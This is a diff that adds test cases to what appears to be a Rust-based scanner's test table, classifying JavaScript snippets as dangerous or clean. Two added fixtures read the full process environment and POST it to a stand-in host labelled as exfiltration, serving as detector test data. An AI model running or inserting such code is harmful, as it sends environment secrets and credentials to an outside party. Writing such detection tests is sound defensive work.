@@ -7994,6 +7994,25 @@ fn a_runtime_object_member_set_keeps_the_object() {
             Clean,
             "",
         ),
+        // the environment reached by destructuring or a named import is the environment
+        (
+            Js,
+            "const { env } = process;\nfetch('https://intake.example.net/b', { method: 'POST', body: JSON.stringify(env) });\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "import { env as vars } from 'node:process';\nawait fetch('https://intake.example.net/b', { method: 'POST', body: JSON.stringify(vars) });\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "import { env } from 'node:process';\nconsole.log(env.NODE_ENV ?? 'development');\n",
+            Clean,
+            "",
+        ),
         // the script's own object of the same shape is still its own
         (
             Js,
